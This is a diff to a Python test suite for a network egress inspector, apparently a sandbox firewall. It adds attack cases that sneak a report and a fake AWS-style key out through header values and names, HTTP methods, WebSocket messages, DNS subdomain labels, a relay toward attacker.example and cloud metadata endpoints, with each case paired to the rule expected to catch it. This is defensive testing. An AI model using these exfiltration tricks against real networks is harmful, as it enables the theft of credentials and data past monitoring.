@@ -1,4 +1,5 @@
 """What would leave by the network, and what it would reach."""
+import re
 from importlib.util import find_spec
 
 from network import PROSE, NetAttempt, carried, forms, told, touched
@@ -6,6 +7,7 @@ from network import PROSE, NetAttempt, carried, forms, told, touched
 NOT_ALLOWED = "host_not_allowed"
 # Any address that no name stands for.
 PUBLIC = "93.184.216.34"
+KEY = b"AKIAQ3EGRVHBDY2T5LZX"
 INWARD = ("10.", "172.16.", "192.168.", "127.0.0.1:", "169.254.", "100.100.", "fd00:")
 WILD = '{ host = "*.carrier.example" }'
 TENANTS = '{ host = "multi.example", methods = ["GET", "POST"], paths = ["/mine/**"] }'
@@ -27,6 +29,49 @@ def page(outcome):
 
 def to_tenant(outcome):
     return any(r["kind"] == "request" and b"/other" in r["data"] for r in outcome.reached)
+
+
+def methods(outcome):
+    return any(not r["data"].split(b" ")[0] in (b"GET", b"POST") for r in outcome.reached if r["kind"] == "request")
+
+
+def heads(outcome):
+    """What arrived in headers and targets, each value by itself and one after the other."""
+    lines = [line for r in outcome.reached if r["kind"] == "data" for line in r["data"].split(b"\r\n")]
+    values = [line.split(b": ", 1)[1] for line in lines if line.lower().startswith((b"x-", b"cookie: "))]
+    targets = [line.split(b" ")[1].strip(b"/").split(b"/")[0] for line in lines if line.startswith(b"GET /")]
+    return b"".join(values).replace(b"piece=", b"") + b" " + b"".join(targets)
+
+
+def headed(outcome):
+    """The beginning of the report, whatever stands between its pieces."""
+    said = b"".join(re.findall(rb"[A-Za-z.,]+", re.sub(rb"c\d+=", b"", heads(outcome))))
+    return PROSE[:200].replace(" ", "").encode() in said
+
+
+def keyed(outcome):
+    """All pieces of the key, in heads."""
+    return all(KEY[n:n + 5] in heads(outcome) for n in range(0, len(KEY), 5))
+
+
+def messaged(outcome):
+    """All pieces of the key, each in a message."""
+    said = [r["data"] for r in outcome.reached if r["kind"] == "data"]
+    return all(KEY[n:n + 5] in said for n in range(0, len(KEY), 5))
+
+
+def named(outcome):
+    """The key in names, joined as whoever runs the name server does."""
+    asked = b"".join(r["data"].split(b".")[0] for r in outcome.reached if r["kind"] == "query")
+    return KEY.lower() in asked.replace(b"-", b"")
+
+
+def heavy(outcome):
+    return sum(len(r["data"]) for r in outcome.reached if r["kind"] == "data") > 20_000
+
+
+def relayed(outcome):
+    return any(r["kind"] == "relayed" and b"attacker.example" in r["data"] for r in outcome.reached)
 
 
 def inward(outcome):
@@ -124,6 +169,21 @@ for words in (["init", "-q"], ["add", "."], ["-c", "user.name=a", "-c", "user.em
 run("git", "push", "http://inspected.example/repository.git", "HEAD:refs/heads/main", env=environment)
 """
 
+# An honest proxy of modules: what stands in the path decides whom it asks.
+RELAYED = """
+for path in ("/attacker.example/blue-bird/@v/list", "/attacker.example:80/blue-bird/@latest", "/sumdb/attacker.example/lookup/blue", "/x.attacker.example/@v/v1.0.0.info"):
+    web("https://proxy.golang.org" + path)
+web("https://sum.golang.org/lookup/attacker.example/blue-bird@v1.0.0")
+assert web("https://proxy.golang.org/github.com/honest/module/@v/list") == "v1.0.0\\n"
+"""
+
+# Wherever a head has room for a word.
+SPREAD = """
+def spread(*lines, first="GET / HTTP/1.1"):
+    talk("inspected.example", 80, "\\r\\n".join([first, "Host: inspected.example", *lines, "", ""]))
+turned = KEY.lower()
+"""
+
 ATTEMPTS = [
     refused(1, "POST to an unknown host", "T1041|T1071.001", f"""
 web("http://attacker.example/in", report)
@@ -187,6 +247,12 @@ assert websocket("inspected.example", "a few honest words") == [b"\\x81\\x04fine
 websocket("inspected.example", report)
 websocket("inspected.example", *pieces(report, 30))
 """, rule="passage_leaves", effect=carried),
+    NetAttempt(9, "WebSocket, a key in pieces, a conversation each", "T1041", WEBSOCKET + """
+for _ in range(2):
+    for piece in pieces(KEY, 5):
+        websocket("inspected.example", piece)
+        websocket("inspected.example", piece)
+""", rule="secret_leaves", effect=messaged),
     NetAttempt(10, "DNS protocol: TXT, NULL", "T1071.004", """
 for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
     query(f"{piece}.n{n}.carrier.example", kind=16)
@@ -347,6 +413,55 @@ web("http://inspected.example/in", body, {"Content-Type": "multipart/form-data; 
 web("http://inspected.example/", headers={"X-Trace": report[:500]})
 web("http://inspected.example/", headers={"User-Agent": base64.b64encode(report[:500].encode()).decode()})
 """, rule="passage_leaves", effect=carried),
+    NetAttempt(29, "what every program writes as the carrier", "T1041", SPREAD + """
+for name in ("Accept-Encoding", "Accept-Language", "Cache-Control", "Content-Encoding", "Expect", "TE", "Sec-WebSocket-Protocol"):
+    spread(f"{name}: {secret}")
+spread("Accept-Encoding: gzip;q=0.5, " + secret)
+""", rule="passage_leaves", effect=carried),
+    NetAttempt(29, "the name of a header as the carrier", "T1041", SPREAD + """
+spread(f"X-{turned}-{secret}: 1")
+spread(f"{turned}: {secret}")
+spread("-".join(["x", *pieces(turned, 4), secret]) + ": 1")
+""", rule="secret_leaves", effect=carried),
+    NetAttempt(29, "the method as the carrier", "T1041|T1071.001", SPREAD + """
+for method in (secret, secret.upper(), "X-" + secret[:20], "get" + secret[6:20]):
+    spread(first=method + " / HTTP/1.1")
+""", rule="unusual_method|bad_request", alert=False, effect=methods),
+    NetAttempt(29, "a passage over many headers", "T1041", SPREAD + """
+spread(*[f"X-{n}: {piece}" for n, piece in enumerate(pieces(report[:2000].replace(" ", "_"), 24))])
+spread(*[f"X-{n}: {piece}" for n, piece in enumerate(pieces(report[:2000].replace(" ", "_"), 11))])
+spread("Cookie: " + "; ".join(f"c{n}={piece}" for n, piece in enumerate(pieces(report[:1500].replace(" ", "_"), 12))))
+""", rule="passage_leaves", effect=headed),
+    NetAttempt(29, "a key over the headers of many requests", "T1041", SPREAD + """
+for piece in pieces(KEY, 5):
+    spread("X-Trace: " + piece)
+for piece in pieces(KEY, 5):
+    spread("Cookie: piece=" + piece)
+for n, piece in enumerate(pieces(KEY, 5)):
+    spread(f"X-{n}: {piece}", first=f"GET /page/ HTTP/1.1")
+for piece in pieces(KEY, 5):
+    spread(first=f"GET /{piece}/page/ HTTP/1.1")
+""", rule="secret_leaves", effect=keyed),
+    NetAttempt(8, "what heads carry counts", "T1030", """
+for n in range(20):
+    web("http://small.example/", headers={"X-Note": "%d " % n + "a word or two " * 100})
+""", allow=['{ host = "small.example", upload_bytes = 10000 }'], rule="over_budget", effect=heavy),
+    NetAttempt(29, "a line before the request, a method in another case", "T1041", """
+said = " /in HTTP/1.1\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report
+for before in ("\\r\\nPOST", "\\n\\n\\nPOST", "post", "Post", " POST", "\\r\\n\\tpost", "P0ST"):
+    talk("opaque.example", 8080, before + said)
+said = said.replace("HTTP/1.1", "http/1.1").replace(" /in ", "\\t/in\\t")
+for before in ("POST", "\\r\\npost"):
+    talk("opaque.example", 8080, before + said)
+""", allow=['{ host = "opaque.example", ports = [8080] }'], rule="passage_leaves", effect=carried),
+    NetAttempt(10, "a key in names below an allowed domain", "T1071.004", """
+query(KEY.lower() + ".carrier.example")
+query("-".join(pieces(KEY.lower(), 5)) + ".carrier.example")
+for piece in pieces(KEY.lower(), 5):
+    query(piece + ".carrier.example")
+""", allow=[WILD], rule="dns_tunnel", effect=named),
+    NetAttempt(25, "a service that fetches from where a path says", "T1090.002", RELAYED, options=("--ask", "deny", "--allow-service", "go"),
+               rule="relayed_request", alert=False, effect=relayed),
     NetAttempt(33, "metadata service", "T1552.005", """
 token = web("http://169.254.169.254/instance/api/token", "", {"X-aws-ec2-metadata-token-ttl-seconds": "60"}, method="PUT")
 for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "[fd00:ec2::254]"):
